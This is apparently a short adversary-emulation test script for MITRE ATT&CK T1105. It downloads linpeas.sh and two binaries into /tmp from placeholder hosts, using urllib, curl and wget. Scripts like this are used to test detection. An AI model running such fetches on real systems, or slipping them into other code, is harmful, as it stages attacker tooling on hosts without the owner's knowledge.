#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1105 Ingress Tool Transfer: fetches a tool from outside, by the library and by two programs.
import subprocess
import urllib.request

urllib.request.urlretrieve("http://tools.example.net/linpeas.sh", "/tmp/linpeas.sh")
subprocess.run(["curl", "-s", "-o", "/tmp/tool.bin", "http://198.51.100.20/tool.bin"], check=False)
subprocess.run(["wget", "-q", "-O", "/tmp/tool2.bin", "http://198.51.100.20/tool2.bin"], check=False)
